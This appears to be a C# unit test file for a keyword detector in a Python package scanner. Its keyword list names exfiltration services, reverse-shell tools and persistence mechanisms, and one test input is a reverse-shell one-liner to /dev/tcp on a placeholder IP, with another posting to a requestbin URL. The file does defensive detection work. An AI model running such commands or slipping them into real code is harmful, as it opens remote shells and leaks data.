using System.Buffers;
using Bonded.Scanning.Python;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Bonded.Scanning.Tests.Python;

public sealed class KeywordSetTests
{
    private static readonly string[] ManyKeywords =
    [
        "requestbin", "requestcatcher", "pastebin", "paste.ee", "file.io", "temp.sh", "interact.sh", "transfer.sh", "curl ", "wget ", "bash -i", "sh -i",
        "socat", "systemctl", ".bashrc", ".profile", "Startup", "CurrentVersion", "0x0.st", "api.telegram.org", "hooks.slack.com", "webhook", "ngrok",
        "dup2", "mkfifo", "/dev/tcp", "/etc/cron", "@reboot", "LaunchAgents", "autostart", "schtasks", "crontab", "certutil", "bitsadmin", "mshta",
    ];

    [Theory]
    [InlineData("import requests\nrequests.post('https://requestbin.net/r/x')\n", true)]
    [InlineData("def request(): return binary\n", false)]
    [InlineData("os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')", true)]
    [InlineData("", false)]
    [InlineData("ends with 0x0.st", true)]
    public void Finds_any_keyword_of_a_large_set(string text, bool expected) =>
        Assert.Equal(expected, new KeywordSet(ManyKeywords, StringComparison.Ordinal).IsFoundIn(text));

    [Fact]
    public void Ignores_case_when_asked()
    {
        var set = new KeywordSet(["webhook", "Invoke-"], StringComparison.OrdinalIgnoreCase);
        Assert.True(set.IsFoundIn("WEBHOOK_URL = x"));
        Assert.True(set.IsFoundIn("invoke-expression"));
        Assert.False(set.IsFoundIn("hook web"));
    }

    // The grouped search answers exactly what one search over all the keywords answers.
    [Property(MaxTest = 300)]
    public Property Agrees_with_a_single_search(NonEmptyArray<NonEmptyString> keywords, string? text, bool ignoreCase)
    {
        var values = keywords.Get.Select(k => k.Get).Distinct(StringComparer.Ordinal).ToArray();
        var comparison = ignoreCase ? StringComparison.OrdinalIgnoreCase : StringComparison.Ordinal;
        var haystack = (text ?? "") + string.Concat(values.Take(1).Where(_ => text?.Length % 3 == 0));
        var expected = haystack.AsSpan().IndexOfAny(SearchValues.Create(values, comparison)) >= 0;
        return (new KeywordSet(values, comparison).IsFoundIn(haystack) == expected).ToProperty();
    }
}
